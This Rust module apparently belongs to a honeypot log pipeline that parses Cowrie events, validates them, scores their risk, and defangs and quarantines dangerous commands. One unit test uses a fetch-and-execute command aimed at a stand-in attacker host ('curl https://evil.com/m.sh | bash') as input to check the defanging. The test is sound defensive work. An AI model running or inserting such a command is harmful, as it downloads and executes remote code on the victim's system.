pub mod defang;
pub mod reader;
pub mod sanitize;
pub mod scoring;

use chrono::{DateTime, TimeZone, Utc};
use serde_json::Value;

use crate::event::defang::{DefangConfig, DefangMode};
use crate::event::scoring::score_event;

/// Event kinds the honeypot emits; anything unrecognized keeps its raw
/// `eventid` so nothing is lost on the way to storage.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum EventKind {
	SessionConnect,
	CommandInput,
	FileDownload,
	LoginSuccess,
	LoginFailed,
	SessionClosed,
	Other(String),
}

impl EventKind {
	pub fn from_eventid(eventid: &str) -> Self {
		match eventid {
			"cowrie.session.connect" => Self::SessionConnect,
			"cowrie.command.input" => Self::CommandInput,
			"cowrie.session.file_download" => Self::FileDownload,
			"cowrie.login.success" => Self::LoginSuccess,
			"cowrie.login.failed" => Self::LoginFailed,
			"cowrie.session.closed" => Self::SessionClosed,
			other => Self::Other(other.to_string()),
		}
	}

}

/// Validation problems surface as values, not errors: an event with any of
/// these is routed to the dead-letter queue instead of `raw_events`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ValidationError {
	PayloadNotObject,
	MissingEventId,
	MissingTimestamp,
	MalformedJson,
}

impl ValidationError {
	pub fn as_str(&self) -> &'static str {
		match self {
			Self::PayloadNotObject => "payload_not_object",
			Self::MissingEventId => "missing_eventid",
			Self::MissingTimestamp => "missing_timestamp",
			Self::MalformedJson => "malformed_json",
		}
	}
}

/// A normalized event ready to be persisted.
#[derive(Debug, Clone)]
pub struct ProcessedEvent {
	pub payload: Value,
	pub risk_score: i64,
	pub quarantined: bool,
	pub validation_errors: Vec<ValidationError>,
	pub session_id: Option<String>,
	pub event_type: Option<String>,
	pub kind: Option<EventKind>,
	pub event_timestamp: Option<DateTime<Utc>>,
	pub src_ip: Option<String>,
	pub sensor: Option<String>,
	/// Original command text, captured before defanging blanks the payload
	/// fields. Used for SSH key extraction and command hashing.
	pub command: Option<String>,
}

impl ProcessedEvent {
	pub fn has_validation_errors(&self) -> bool {
		!self.validation_errors.is_empty()
	}
}

/// Knobs shared by both loaders for turning raw payloads into
/// [`ProcessedEvent`]s.
#[derive(Debug, Clone)]
pub struct EventProcessor {
	pub quarantine_threshold: i64,
	pub defang: DefangConfig,
}

impl Default for EventProcessor {
	fn default() -> Self {
		Self {
			quarantine_threshold: 80,
			defang: DefangConfig::default(),
		}
	}
}

impl EventProcessor {
	/// Validate, score, defang and sanitize one payload.
	///
	/// Malformed lines arrive here as `{"malformed": <raw line>}` from the
	/// reader; they fail validation (no `eventid`, no timestamp) and are
	/// diverted to the DLQ by the caller.
	pub fn process(&self, payload: Value) -> ProcessedEvent {
		let mut validation_errors = Vec::new();

		let object = match payload.as_object() {
			Some(map) => map.clone(),
			None => {
				// Keep the original value so the DLQ can wrap and preserve it.
				return ProcessedEvent {
					payload: sanitize::sanitize_value(&payload),
					risk_score: 0,
					quarantined: true,
					validation_errors: vec![ValidationError::PayloadNotObject],
					session_id: None,
					event_type: None,
					kind: None,
					event_timestamp: None,
					src_ip: None,
					sensor: None,
					command: None,
				};
			}
		};

		if object.contains_key("malformed") {
			validation_errors.push(ValidationError::MalformedJson);
		}

		let session_id = string_field(&object, "session").or_else(|| string_field(&object, "session_id"));
		let event_type = string_field(&object, "eventid");
		let timestamp_raw = object.get("timestamp").or_else(|| object.get("time"));
		let event_timestamp = timestamp_raw.and_then(parse_timestamp);
		let src_ip = string_field(&object, "src_ip");
		let sensor = string_field(&object, "sensor");
		let command = string_field(&object, "input").or_else(|| string_field(&object, "command"));

		if event_type.is_none() {
			validation_errors.push(ValidationError::MissingEventId);
		}
		if timestamp_raw.is_none() {
			validation_errors.push(ValidationError::MissingTimestamp);
		}

		let kind = event_type.as_deref().map(EventKind::from_eventid);
		let risk_score = score_event(event_type.as_deref(), command.as_deref());

		let mut event = Value::Object(object);
		if self.defang.mode != DefangMode::Off {
			defang::neutralize_payload(&mut event, &self.defang);
		}
		let payload = sanitize::sanitize_value(&event);

		let quarantined =
			!validation_errors.is_empty() || risk_score >= self.quarantine_threshold;

		ProcessedEvent {
			payload,
			risk_score,
			quarantined,
			validation_errors,
			session_id,
			event_type,
			kind,
			event_timestamp,
			src_ip,
			sensor,
			command,
		}
	}
}

fn string_field(map: &serde_json::Map<String, Value>, key: &str) -> Option<String> {
	map.get(key)
		.and_then(Value::as_str)
		.filter(|s| !s.is_empty())
		.map(|s| s.to_string())
}

/// Accept ISO-8601 strings or epoch seconds, the two shapes the honeypot
/// emits depending on output plugin.
fn parse_timestamp(raw: &Value) -> Option<DateTime<Utc>> {
	match raw {
		Value::String(s) => DateTime::parse_from_rfc3339(s)
			.map(|dt| dt.with_timezone(&Utc))
			.ok()
			.or_else(|| {
				// Cowrie sometimes emits a naive ISO timestamp without zone
				chrono::NaiveDateTime::parse_from_str(s, "%Y-%m-%dT%H:%M:%S%.f")
					.ok()
					.map(|naive| Utc.from_utc_datetime(&naive))
			}),
		Value::Number(n) => {
			let secs = n.as_f64()?;
			Utc.timestamp_opt(secs as i64, ((secs.fract()) * 1e9) as u32).single()
		}
		_ => None,
	}
}

#[cfg(test)]
mod tests {
	use super::*;
	use serde_json::json;

	#[test]
	fn clean_connect_event_passes_validation() {
		let processor = EventProcessor::default();
		let processed = processor.process(json!({
			"session": "abcd0001",
			"eventid": "cowrie.session.connect",
			"timestamp": "2024-01-01T00:00:00Z",
			"src_ip": "1.2.3.4",
			"sensor": "s1",
		}));
		assert!(processed.validation_errors.is_empty());
		assert!(!processed.quarantined);
		assert_eq!(processed.risk_score, 0);
		assert_eq!(processed.kind, Some(EventKind::SessionConnect));
		assert_eq!(processed.session_id.as_deref(), Some("abcd0001"));
		assert_eq!(processed.src_ip.as_deref(), Some("1.2.3.4"));
	}

	#[test]
	fn missing_eventid_and_timestamp_accumulate() {
		let processor = EventProcessor::default();
		let processed = processor.process(json!({"session": "x"}));
		assert!(processed.quarantined);
		assert_eq!(
			processed.validation_errors,
			vec![ValidationError::MissingEventId, ValidationError::MissingTimestamp]
		);
	}

	#[test]
	fn non_object_payload_is_rejected() {
		let processor = EventProcessor::default();
		let processed = processor.process(json!(["not", "an", "object"]));
		assert!(processed.quarantined);
		assert_eq!(processed.validation_errors, vec![ValidationError::PayloadNotObject]);
	}

	#[test]
	fn dangerous_command_is_quarantined_and_defanged() {
		let processor = EventProcessor::default();
		let processed = processor.process(json!({
			"session": "abcd0002",
			"eventid": "cowrie.command.input",
			"timestamp": "2024-01-01T00:01:00Z",
			"input": "curl https://evil.com/m.sh | bash",
		}));
		assert!(processed.risk_score >= 70);
		assert!(processed.quarantined);
		let safe = processed.payload["input_safe"].as_str().unwrap();
		assert!(safe.contains("hxxps://"));
		assert!(safe.contains("[PIPE]"));
		assert_eq!(
			processed.payload["input_original"].as_str().unwrap(),
			"curl https://evil.com/m.sh | bash"
		);
		assert_eq!(processed.command.as_deref(), Some("curl https://evil.com/m.sh | bash"));
	}

	#[test]
	fn epoch_timestamps_parse() {
		let processor = EventProcessor::default();
		let processed = processor.process(json!({
			"session": "abcd0003",
			"eventid": "cowrie.session.closed",
			"time": 1704067200,
		}));
		assert!(processed.validation_errors.is_empty());
		assert_eq!(
			processed.event_timestamp.unwrap(),
			Utc.with_ymd_and_hms(2024, 1, 1, 0, 0, 0).unwrap()
		);
	}

	#[test]
	fn naive_iso_timestamps_parse_as_utc() {
		let processor = EventProcessor::default();
		let processed = processor.process(json!({
			"session": "abcd0004",
			"eventid": "cowrie.session.connect",
			"timestamp": "2024-06-15T10:30:00.123456",
		}));
		assert!(processed.event_timestamp.is_some());
	}
}
